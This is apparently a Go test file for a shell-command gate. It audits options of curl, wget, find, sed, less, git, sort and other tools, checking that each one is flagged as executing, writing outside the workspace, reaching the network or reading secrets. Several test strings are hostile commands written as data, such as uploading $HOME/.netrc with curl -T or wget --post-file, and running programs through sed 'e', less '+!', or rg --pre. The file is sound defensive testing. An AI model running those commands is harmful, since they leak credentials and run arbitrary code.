package gate

import (
	"runtime"
	"sort"
	"testing"
)

// The option audit of issue 12, class 6: for each command of the table,
// every option that writes, reads a list of paths, runs a program or
// opens the network (from its manual page: GNU coreutils, findutils,
// grep, diffutils, sed, less, file, jq, ripgrep, curl, wget), with the
// effects its step must have. A value that is a path (--reference=F,
// --from-file=F, -m MAGIC) needs no row: every value is judged as a path
// (attacks_test.go). auditQuiet lists the commands with no such option,
// and why; TestAuditCoversTheTable keeps both lists whole.
var audit = []struct {
	script string
	has    Effects
}{
	{"wc --files0-from=l", Of(Exec, Secret)},
	{"wc --files0-from l", Of(Exec, Secret)},
	{"wc --f=l", Of(Exec, Secret)},
	{"md5sum -c l", Of(Exec, Secret)},
	{"sha1sum --check l", Of(Exec, Secret)},
	{"sha224sum -bc l", Of(Exec, Secret)},
	{"sha256sum --ch l", Of(Exec, Secret)},
	{"sha384sum -c l", Of(Exec, Secret)},
	{"sha512sum -c l", Of(Exec, Secret)},
	{"b2sum -c l", Of(Exec, Secret)},
	{"cksum --check l", Of(Exec, Secret)},
	{"diff -r vendor src", Of(Secret)},
	{"diff --recursive vendor src", Of(Secret)},
	{"diff -Nr vendor src", Of(Secret)},
	{"jq -L d . f", Of(Exec, Secret)},
	{"jq -f p f", Of(Exec, Secret)},
	{"jq --from-file p f", Of(Exec, Secret)},
	{"jq --library-path d . f", Of(Exec, Secret)},
	{"jq -n 'import \"a\" as a; 1'", Of(Exec, Secret)},
	{"jq -n 'include \"a\"; 1'", Of(Exec, Secret)},
	{"jq --rawfile k $HOME/.netrc -n '$k'", Of(Secret)},
	{"jq --slurpfile k $HOME/.netrc -n '$k'", Of(Secret)},
	{"cp -rL vendor o", Of(Write, Secret)},
	{"cp -R --dereference vendor o", Of(Write, Secret)},
	{"cp --archive -L vendor o", Of(Write, Secret)},
	{"cp -t /var/tmp a.txt", Of(Write, Outside)},
	{"chmod -R -L 700 vendor", Of(Write, Secret)},
	{"chown -RL u vendor", Of(Write, Secret)},
	{"chgrp -RL g vendor", Of(Write, Secret)},
	{"chmod --recursive -L 700 vendor", Of(Write, Secret)},
	{"mkdir /var/tmp/x", Of(Write, Outside)},
	{"rm /var/tmp/x", Of(Write, Outside)},
	{"rmdir /var/tmp/x", Of(Write, Outside)},
	{"touch /var/tmp/x", Of(Write, Outside)},
	{"mv a.txt /var/tmp/x", Of(Write, Outside)},
	{"mv -t /var/tmp a.txt", Of(Write, Outside)},
	{"ln -s a.txt /var/tmp/x", Of(Write, Outside)},
	{"tee /var/tmp/x", Of(Write, Outside)},
	{"tee -a /var/tmp/x", Of(Write, Outside)},
	{"truncate -s0 /var/tmp/x", Of(Write, Outside)},
	{"unlink /var/tmp/x", Of(Write, Outside)},
	{"link a.txt /var/tmp/x", Of(Write, Outside)},
	{"ls -LR vendor", Of(Secret)},
	{"ls --dereference -R vendor", Of(Secret)},
	{"du -L vendor", Of(Secret)},
	{"du --dereference vendor", Of(Secret)},
	{"du --files0-from=l", Of(Exec, Secret)},
	{"pushd /", Of(Exec)},
	{"popd", Of(Exec)},
	{"date -s 2020-01-01", Of(Exec)},
	{"date --set=2020-01-01", Of(Exec)},
	{"printf -v X hi", Of(Exec)},
	{"env ls", Of(Exec)},
	{"set -e", Of(Exec)},
	{"alias x=ls", Of(Exec)},
	{"eval ls", Of(Exec)},
	{"grep -R x vendor", Of(Secret)},
	{"egrep -R x vendor", Of(Secret)},
	{"fgrep --dereference-recursive x vendor", Of(Secret)},
	{"rg --pre sh x", Of(Exec)},
	{"rg --pre-glob '*' x", Of(Exec)},
	{"rg --hostname-bin sh x", Of(Exec)},
	{"rg -L x vendor", Of(Secret)},
	{"rg --follow x vendor", Of(Secret)},
	{"sed -i p a.txt", Of(Write)},
	{"sed 'w /var/tmp/x' a.txt", Of(Exec)},
	{"sed -f s a.txt", Of(Exec)},
	{"sed 'e id' a.txt", Of(Exec)},
	{"sort -o /var/tmp/x a.txt", Of(Write, Outside)},
	{"sort -uo/var/tmp/x a.txt", Of(Write, Outside)},
	{"sort --output=/var/tmp/x a.txt", Of(Write, Outside)},
	{"sort -T /var/tmp a.txt", Of(Write, Outside)},
	{"sort --temporary-directory /var/tmp a.txt", Of(Write, Outside)},
	{"sort --compress-program=sh a.txt", Of(Exec)},
	{"sort --files0-from=l", Of(Exec, Secret)},
	{"sort --random-source=$HOME/.netrc a.txt", Of(Secret)},
	{"uniq a.txt /var/tmp/x", Of(Write, Outside)},
	{"xxd a.txt /var/tmp/x", Of(Write, Outside)},
	{"xxd -r a.txt /var/tmp/x", Of(Write, Outside)},
	{"find src -exec id ';'", Of(Exec)},
	{"find src -execdir id ';'", Of(Exec)},
	{"find src -ok id ';'", Of(Exec)},
	{"find src -okdir id ';'", Of(Exec)},
	{"find src -delete", Of(Write)},
	{"find src -fprint /var/tmp/x", Of(Write, Outside)},
	{"find src -fprint0 /var/tmp/x", Of(Write, Outside)},
	{"find src -fprintf /var/tmp/x %p", Of(Write, Outside)},
	{"find src -fls /var/tmp/x", Of(Write, Outside)},
	{"find -L vendor", Of(Secret)},
	{"find vendor -follow", Of(Secret)},
	{"find -files0-from l", Of(Exec, Secret)},
	{"less +!id a.txt", Of(Exec)},
	{"less '+|id' a.txt", Of(Exec)},
	{"less '+:e x' a.txt", Of(Exec, Secret)},
	{"less -o /var/tmp/x a.txt", Of(Write, Outside)},
	{"less -O /var/tmp/x a.txt", Of(Write, Outside)},
	{"less --log-file=/var/tmp/x a.txt", Of(Write, Outside)},
	{"less --LOG-FILE=/var/tmp/x a.txt", Of(Write, Outside)},
	{"less -k k a.txt", Of(Exec, Secret)},
	{"less --lesskey-file=k a.txt", Of(Exec, Secret)},
	{"less --lesskey-src=k a.txt", Of(Exec, Secret)},
	{"less --lesskey-content=x a.txt", Of(Exec, Secret)},
	{"less -t tag", Of(Exec, Secret)},
	{"less --tag=tag", Of(Exec, Secret)},
	{"file -C -m /var/tmp/m", Of(Write, Outside)},
	{"file --compile -m /var/tmp/m", Of(Write, Outside)},
	{"file -f l", Of(Exec, Secret)},
	{"file --files-from l", Of(Exec, Secret)},
	{"curl https://example.com", Of(Net)},
	{"curl -o /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl -O https://example.com/x", Of(Net, Write)},
	{"curl --remote-name-all https://example.com/x", Of(Net, Write)},
	{"curl -D /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl -c /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --output-dir /var/tmp -O https://example.com/x", Of(Net, Write, Outside)},
	{"curl --trace /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --trace-ascii /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --stderr /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --etag-save /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --hsts /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --alt-svc /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl --libcurl /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"curl -K c https://example.com", Of(Net, Exec, Secret)},
	{"curl --config c https://example.com", Of(Net, Exec, Secret)},
	{"curl -T $HOME/.netrc https://example.com", Of(Net, Secret)},
	{"curl -d @$HOME/.netrc https://example.com", Of(Net, Secret)},
	{"curl --netrc-file $HOME/.netrc https://example.com", Of(Net, Secret)},
	{"curl FILE:///$HOME/.netrc", Of(Net, Secret)},
	{"wget https://example.com", Of(Net, Write)},
	{"wget -O /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"wget -o /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"wget -a /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"wget -P /var/tmp https://example.com", Of(Net, Write, Outside)},
	{"wget --save-cookies /var/tmp/x https://example.com", Of(Net, Write, Outside)},
	{"wget -i l", Of(Net, Exec, Secret)},
	{"wget -e x=1 https://example.com", Of(Net, Exec, Secret)},
	{"wget --config c https://example.com", Of(Net, Exec, Secret)},
	{"wget --use-askpass=p https://example.com", Of(Net, Exec)},
	{"wget --post-file=$HOME/.netrc https://example.com", Of(Net, Secret)},
	{"git init", Of(Write, Protected)},
	{"git init --template=t", Of(Write, Exec, Protected)},
	{"git clone --template=t https://example.com/r", Of(Net, Exec, Write, Protected)},
	{"git -c init.templateDir=t init", Of(Exec, Write, Protected)},
	{"git log --output=/var/tmp/x", Of(Write, Outside)},
	{"git fetch", Of(Net, Exec)},
	{"git log --ext-diff -p", Of(Exec)},
	{"git log --textconv -p", Of(Exec)},
	{"git grep -O x", Of(Exec)},
}

// auditQuiet are the table's commands with no option that writes, reads
// a list of paths, runs a program or opens the network.
var auditQuiet = map[string]string{
	"cat": "reads what it names", "head": "reads", "tail": "reads (-f waits, --pid watches)",
	"echo": "prints", "pwd": "prints", "stat": "reads metadata", "whoami": "prints", "id": "prints",
	"uname": "prints", "true": "nothing", "false": "nothing", "test": "tests", "[": "tests",
	":": "nothing", "basename": "prints", "dirname": "prints", "realpath": "resolves",
	"readlink": "resolves", "cmp": "reads", "comm": "reads", "cut": "reads", "tr": "filters",
	"paste": "reads", "nl": "reads", "od": "reads", "tac": "reads", "rev": "reads",
	"fold": "reads", "join": "reads", "seq": "prints", "sleep": "waits", "sum": "reads",
	"base64": "reads", "base32": "reads", "strings": "reads", "printenv": "prints the child's environment, credentials taken out",
	"expr": "prints", "nproc": "prints", "column": "reads", "which": "looks up PATH",
	"type": "looks up commands", "tty": "prints", "arch": "prints", "groups": "prints",
	"logname": "prints", "hexdump": "reads (-f FORMAT_FILE is a path)", "numfmt": "filters",
	"fmt": "reads", "pr": "reads", "expand": "reads", "unexpand": "reads", "yes": "prints",
	"exit": "builtin", "return": "builtin", "wait": "builtin", "dirs": "builtin",
	"break": "builtin", "continue": "builtin", "cd": "its words are judged as the directory it moves to",
}

func TestAudit(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the rows are Unix shell steps: Unix paths (/tmp, /var/tmp, ~root, /proc) that are not absolute on Windows, links into ~/.ssh and /proc, and sort and find, which are other programs on Windows")
	}
	w := newAttackWorld(t)
	for _, a := range audit {
		all, sc, ok := w.effectsOf(t, w.root, a.script)
		if ok && !a.has.SubsetOf(all) {
			t.Errorf("%q has %s, want at least %s\n %+v", a.script, all, a.has, sc.Steps)
		}
	}
}

// Every command of the table is audited: it has a row in audit, or is in
// auditQuiet.
func TestAuditCoversTheTable(t *testing.T) {
	rows := map[string]bool{}
	for _, a := range audit {
		w, _, _ := cutWord(a.script)
		rows[w] = true
	}
	var table []string
	for _, m := range []map[string]bool{readOnly, writers, checksums} {
		for n := range m {
			table = append(table, n)
		}
	}
	table = append(table, "wc", "jq", "diff", "cp", "chmod", "chown", "chgrp", "ls", "du", "cd",
		"pushd", "popd", "date", "printf", "env", "set", "alias", "eval", "grep", "egrep", "fgrep",
		"rg", "sed", "sort", "uniq", "xxd", "find", "less", "file", "curl", "wget", "git")
	sort.Strings(table)
	for _, n := range table {
		if !rows[n] && auditQuiet[n] == "" {
			t.Errorf("%s is in the command table but not audited", n)
		}
		if knownFacts(n, nil).own.Empty() {
			t.Errorf("%s is listed as in the table, but the table does not know it", n)
		}
	}
}

func cutWord(s string) (string, string, bool) {
	for i := 0; i < len(s); i++ {
		if s[i] == ' ' {
			return s[:i], s[i+1:], true
		}
	}
	return s, "", false
}
